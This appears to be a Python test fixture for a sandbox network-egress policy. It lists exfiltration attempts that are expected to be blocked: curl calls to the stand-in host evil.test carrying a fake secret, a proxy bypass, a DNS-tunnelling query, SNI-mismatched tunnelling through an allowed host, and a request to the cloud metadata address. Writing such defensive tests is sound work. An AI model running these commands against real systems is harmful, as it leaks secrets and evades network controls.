"""Ways a program may try to carry a secret out of its sandbox, and what each comes to.

{tls} and {port} are the ports of a server that would take it: evil.test, which the policy does not
allow, and site.test, which it does, are names of it; {address} is where this host could be reached
from a container with a network.
"""

from dataclasses import dataclass

SECRET = "stolen=4111-1111"

UDP = """\
python3 - <<'END'
import socket
query = b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0\\1\\0\\1"
try:
    socket.socket(type=socket.SOCK_DGRAM).sendto(query, ("8.8.8.8", 53))
except OSError as error:
    print(error)
END"""


@dataclass(frozen=True, slots=True)
class Leak:
    """An attempt. `said` is part of what the program is told; `logged` of what the log says, where
    the attempt comes as far as the proxy."""

    by: str
    command: str
    said: str
    logged: tuple[str, ...] = ()


LEAKS = (
    Leak(
        "to a host that is not allowed",
        f"curl -sS 'https://evil.test:{{tls}}/?{SECRET}'",
        "403",
        ("evil.test", "not_allowed"),
    ),
    Leak(
        "past the proxy, to an address",
        f"curl -sS --max-time 5 --noproxy '*' 'http://{{address}}:{{port}}/?{SECRET}'",
        "curl: (7)",
    ),
    Leak(
        "in the question to a name server",
        f"{UDP}\ngetent hosts secret.evil.test || echo no such name",
        "Network is unreachable\nno such name",
    ),
    Leak(
        "through a tunnel to an allowed host, with another name in TLS",
        "curl -sSk --connect-to evil.test:{tls}:site.test:{tls} "
        f"'https://evil.test:{{tls}}/?{SECRET}'",
        "curl: (35)",
        ("site.test", "evil.test", "server_name"),
    ),
    Leak(
        "to the metadata service of a cloud",
        f"curl -sS 'http://169.254.169.254/latest/?{SECRET}'; echo",
        "EGRESS_DENIED",
        ("169.254.169.254", "not_allowed"),
    ),
)
